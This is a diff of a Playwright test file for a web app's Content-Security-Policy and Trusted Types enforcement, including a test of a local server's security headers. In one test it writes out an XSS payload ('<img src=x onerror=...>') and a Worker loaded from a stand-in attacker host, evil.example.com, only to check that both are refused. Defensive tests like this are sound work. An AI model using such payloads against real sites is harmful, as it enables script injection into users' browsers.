@@ -156,6 +156,7 @@ test.describe('the Content-Security-Policy', () => {
 			expect(directives.get('object-src'), path).toEqual(["'none'"]);
 			expect(directives.get('base-uri'), path).toEqual(["'self'"]);
 			expect(directives.get('form-action'), path).toEqual(["'none'"]);
+			expect(directives.get('require-trusted-types-for'), path).toEqual(["'script'"]);
 			// A <meta> tag cannot carry it; the headers do.
 			expect(directives.has('frame-ancestors'), path).toBe(false);
 		}
@@ -188,11 +189,11 @@ test.describe('an injected style', () => {
 					{ once: true }
 				)
 			);
-			document.body.insertAdjacentHTML(
-				'beforeend',
-				'<p id="styled" style="position: fixed; color: rgb(255, 0, 0)">styled</p>'
-			);
-			const p = document.getElementById('styled')!;
+			// Built node by node: Trusted Types refuse the HTML string itself (see below).
+			const p = document.createElement('p');
+			p.textContent = 'styled';
+			p.setAttribute('style', 'position: fixed; color: rgb(255, 0, 0)');
+			document.body.append(p);
 			return {
 				directive: await violation,
 				position: getComputedStyle(p).position,
@@ -204,6 +205,50 @@ test.describe('an injected style', () => {
 			position: 'static',
 			announcer: 'absolute'
 		});
+	});
+});
+
+test.describe('Trusted Types', () => {
+	test.use({ allowedErrors: [/TrustedHTML|TrustedScriptURL|Trusted Types/] });
+
+	test('a string reaches no HTML or script sink: markup and foreign workers are refused', async ({
+		page
+	}) => {
+		await page.goto('./');
+		await mapReady(page);
+		const outcome = await page.evaluate(() => {
+			const attempt = (run: () => unknown) => {
+				try {
+					run();
+					return 'ran';
+				} catch (error) {
+					return (error as Error).name;
+				}
+			};
+			return {
+				html: attempt(() => (document.body.innerHTML += '<img src=x onerror="window.hit=1">')),
+				worker: attempt(() => new Worker('https://evil.example.com/w.js')),
+				hit: 'hit' in window
+			};
+		});
+		expect(outcome).toEqual({ html: 'TypeError', worker: 'TypeError', hit: false });
+	});
+});
+
+test.describe('npm start’s server (scripts/serve.mjs)', () => {
+	test('sends each path the headers the build’s _headers gives it, and nothing cross-origin', async ({
+		request
+	}) => {
+		const rules = parseHeadersFile(readFileSync('build/_headers', 'utf8'));
+		for (const path of [...PAGES.map((p) => p.slice(1)), '/generated/story/events.geojson']) {
+			const headers = (await request.get(path)).headers();
+			for (const [name, value] of Object.entries(headersFor(rules, path)))
+				expect([path, name, headers[name]]).toEqual([path, name, value]);
+			expect(headers['content-security-policy'] ?? '', path).toBe(
+				headersFor(rules, path)['content-security-policy'] ?? ''
+			);
+			expect(headers['access-control-allow-origin'], path).toBeUndefined();
+		}
 	});
 });
 
